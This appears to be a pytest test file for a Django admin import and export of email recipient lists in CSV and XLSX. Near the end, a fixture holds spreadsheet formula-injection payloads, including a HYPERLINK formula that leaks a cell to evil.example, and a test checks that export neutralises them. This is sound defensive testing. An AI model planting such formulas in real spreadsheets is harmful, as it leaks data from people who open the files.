"""Recipient list import (CSV and XLSX, through the admin import view) and export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tablib import Dataset

import campaigns.admin.audience  # noqa: F401  (registers the audience admin)
from campaigns.models import RecipientListEntry
from campaigns.resources import (
    DUPLICATE_IN_FILE,
    DUPLICATE_IN_LIST,
    RecipientListEntryResource,
)
from tests.campaigns import factories as f

pytestmark = pytest.mark.django_db

IMPORT_URL = "admin:campaigns_recipientlistentry_import"
PROCESS_URL = "admin:campaigns_recipientlistentry_process_import"
EXPORT_URL = "admin:campaigns_recipientlistentry_export"
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # RecipientListEntryAdmin.formats = [CSV, XLSX]


def csv_file(rows: list[list[str]], name: str = "list.csv") -> SimpleUploadedFile:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode(), content_type="text/csv")


def xlsx_file(rows: list[list], name: str = "list.xlsx") -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(
        name,
        buffer.getvalue(),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


GOOD_ROWS = [
    ["Email", "first_name", "last_name", "language", "time_zone", "context.course"],
    ["Ann@Example.org", "Ann", "Lee", "fr", "Europe/Paris", "Physics"],
    ["bob@example.org", "Bob", "", "", "", "Maths"],
    [" carol@example.org ", "Carol", "Ng", "pt-br", "America/Sao_Paulo", ""],
]


def preview(admin_client, rlist, upload, fmt):
    """Step 1: upload; returns the preview response."""
    response = admin_client.post(
        reverse(IMPORT_URL),
        {"recipient_list": rlist.pk, "resource": "0", "format": fmt, "import_file": upload},
    )
    assert response.status_code == 200
    return response


def confirm(admin_client, response):
    """Step 2: post the confirmation form the preview offered."""
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return admin_client.post(reverse(PROCESS_URL), data)


@pytest.mark.parametrize(("make_file", "fmt"), [(csv_file, CSV_FORMAT), (xlsx_file, XLSX_FORMAT)])
def test_a_good_file_imports_into_the_chosen_list_and_links_users(admin_client, make_file, fmt):
    rlist = f.RecipientListFactory(name="Spring")
    other = f.RecipientListFactory()
    f.RecipientListEntryFactory(recipient_list=other, email="bob@example.org")  # other list: fine
    ann = f.UserFactory(email="ann@example.org")
    response = preview(admin_client, rlist, make_file(GOOD_ROWS), fmt)
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert RecipientListEntry.objects.filter(recipient_list=rlist).count() == 0  # preview only
    done = confirm(admin_client, response)
    assert done.status_code == 302
    entries = {e.email: e for e in RecipientListEntry.objects.filter(recipient_list=rlist)}
    assert set(entries) == {"ann@example.org", "bob@example.org", "carol@example.org"}
    assert entries["ann@example.org"].user == ann
    assert entries["bob@example.org"].user is None
    assert entries["ann@example.org"].extra == {"course": "Physics"}
    assert (entries["carol@example.org"].language, entries["carol@example.org"].time_zone) == (
        "pt-br",
        "America/Sao_Paulo",
    )


def _errors_by_row(result) -> dict[int, dict[str, list[str]]]:
    return {
        row.number: {field: [str(e) for e in errs] for field, errs in row.error_dict.items()}
        for row in result.invalid_rows
    }


@pytest.mark.parametrize(("make_file", "fmt"), [(csv_file, CSV_FORMAT), (xlsx_file, XLSX_FORMAT)])
def test_a_bad_file_reports_every_error_on_its_row_and_saves_nothing(admin_client, make_file, fmt):
    rlist = f.RecipientListFactory(name="Spring")
    f.RecipientListEntryFactory(recipient_list=rlist, email="taken@example.org")
    rows = [
        ["email", "first_name", "nickname"],
        ["ok@example.org", "Ok", "x"],
        ["not-an-address", "Bad", "x"],
        ["OK@example.org", "Dup", "x"],
        ["taken@example.org", "Taken", "x"],
        ["", "Nobody", "x"],
    ]
    response = preview(admin_client, rlist, make_file(rows), fmt)
    result = response.context["result"]
    assert result.has_validation_errors()
    assert "confirm_form" not in response.context  # cannot be confirmed
    errors = _errors_by_row(result)
    unknown = "Unknown column 'nickname'"
    assert all(any(unknown in m for m in errs["nickname"]) for errs in errors.values())
    assert set(errors) == {1, 2, 3, 4, 5}  # the unknown column is reported on every row
    assert errors[2]["email"] == ["Enter a valid email address."]
    assert errors[3]["email"] == [DUPLICATE_IN_FILE.format(row=1)]
    assert errors[4]["email"] == [DUPLICATE_IN_LIST.format(list_name="Spring")]
    assert errors[5]["email"] == ["An email address is required."]
    body = response.content.decode()
    assert "Enter a valid email address." in body and "Duplicate address" in body
    assert list(RecipientListEntry.objects.values_list("email", flat=True)) == ["taken@example.org"]


def test_bad_language_and_time_zone_are_reported():
    rlist = f.RecipientListFactory()
    data = Dataset(headers=["email", "language", "time_zone"])
    data.append(["a@example.org", "english!", "Mars/Olympus"])
    result = RecipientListEntryResource(recipient_list=rlist).import_data(data, dry_run=True)
    errors = _errors_by_row(result)[1]
    assert errors["language"] == ["'english!' is not a language code (e.g. en, pt-br)."]
    assert errors["time_zone"] == ["'Mars/Olympus' is not an IANA time zone (e.g. Europe/Paris)."]


def test_a_row_that_became_invalid_before_confirming_rolls_everything_back(admin_client):
    rlist = f.RecipientListFactory()
    response = preview(admin_client, rlist, csv_file(GOOD_ROWS), CSV_FORMAT)
    # Someone adds one of the addresses by hand between preview and confirmation.
    f.RecipientListEntryFactory(recipient_list=rlist, email="carol@example.org")
    done = confirm(admin_client, response)
    assert done.status_code == 302
    assert list(rlist.entries.values_list("email", flat=True)) == ["carol@example.org"]
    follow = admin_client.get(done["Location"])
    assert "Nothing was imported" in follow.content.decode()


def test_the_import_page_preselects_the_list_and_lists_the_columns(admin_client):
    rlist = f.RecipientListFactory()
    response = admin_client.get(reverse(IMPORT_URL), {"recipient_list": rlist.pk})
    assert response.status_code == 200
    assert response.context["form"].initial["recipient_list"] == str(rlist.pk)
    [(_, columns)] = response.context["fields_list"]
    assert columns == ["email", "first_name", "last_name", "language", "time_zone"]


def test_the_list_page_links_to_import_and_export(admin_client):
    rlist = f.RecipientListFactory()
    f.RecipientListEntryFactory.create_batch(2, recipient_list=rlist)
    response = admin_client.get(reverse("admin:campaigns_recipientlist_change", args=[rlist.pk]))
    body = response.content.decode()
    assert f"{reverse(IMPORT_URL)}?recipient_list={rlist.pk}" in body
    changelist = admin_client.get(reverse("admin:campaigns_recipientlist_changelist"))
    assert changelist.status_code == 200


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
def test_export_writes_the_import_columns_and_reimports(admin_client, fmt):
    rlist = f.RecipientListFactory()
    f.RecipientListEntryFactory(
        recipient_list=rlist, email="a@example.org", first_name="A", extra={"course": "Bio"}
    )
    f.RecipientListEntryFactory(recipient_list=rlist, email="b@example.org", first_name="B")
    f.RecipientListEntryFactory(email="elsewhere@example.org")
    url = reverse(EXPORT_URL) + f"?recipient_list__id__exact={rlist.pk}"
    fields = {
        f"recipientlistentryresource_{c}": "on"
        for c in ("email", "first_name", "last_name", "language", "time_zone")
    }
    response = admin_client.post(url, {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == CSV_FORMAT:
        data = Dataset().load(content.decode(), format="csv")
    else:
        data = Dataset().load(content, format="xlsx")
    assert data.headers == [
        "email",
        "first_name",
        "last_name",
        "language",
        "time_zone",
        "context.course",
    ]
    assert [row[0] for row in data] == ["a@example.org", "b@example.org"]
    assert data[0][5] == "Bio"
    # The export imports into another list unchanged.
    copy = f.RecipientListFactory()
    result = RecipientListEntryResource(recipient_list=copy).import_data(data, dry_run=False)
    assert not result.has_validation_errors(), _errors_by_row(result)
    assert copy.entries.get(email="a@example.org").extra == {"course": "Bio"}


FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "last_name": "+SUM(1,2)",
    "language": "",
    "course": "@cmd",
}


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
def test_export_neutralises_formulas_and_the_file_reimports_unchanged(admin_client, fmt):
    rlist = f.RecipientListFactory()
    f.RecipientListEntryFactory(
        recipient_list=rlist,
        email="eve@example.org",
        first_name=FORMULAS["first_name"],
        last_name=FORMULAS["last_name"],
        extra={"course": FORMULAS["course"], "note": "-2+3", "n": 7},
    )
    url = reverse(EXPORT_URL) + f"?recipient_list__id__exact={rlist.pk}"
    fields = {f"recipientlistentryresource_{c}": "on" for c in ("email", "first_name", "last_name")}
    response = admin_client.post(url, {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == CSV_FORMAT:
        [row] = list(csv.DictReader(io.StringIO(content.decode())))
        assert row["first_name"] == "'" + FORMULAS["first_name"]
        assert row["last_name"] == "'+SUM(1,2)"
        assert row["context.course"] == "'@cmd"
        assert row["context.note"] == "'-2+3"
        data = Dataset().load(content.decode(), format="csv")
    else:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = list(book.active.iter_rows())
        header = [c.value for c in cells[0]]
        values = dict(zip(header, cells[1], strict=True))
        assert values["first_name"].value == "'" + FORMULAS["first_name"]
        assert values["first_name"].data_type == "s"  # text, not a formula
        assert values["context.course"].value == "'@cmd"
        assert values["context.n"].value == 7  # numbers stay numbers
        assert all(c.data_type != "f" for row in cells for c in row)
        data = Dataset().load(content, format="xlsx")
    copy = f.RecipientListFactory()
    result = RecipientListEntryResource(recipient_list=copy).import_data(data, dry_run=False)
    assert not result.has_validation_errors(), _errors_by_row(result)
    entry = copy.entries.get()
    assert (entry.first_name, entry.last_name) == (FORMULAS["first_name"], "+SUM(1,2)")
    assert entry.extra["course"] == "@cmd" and entry.extra["note"] == "-2+3"
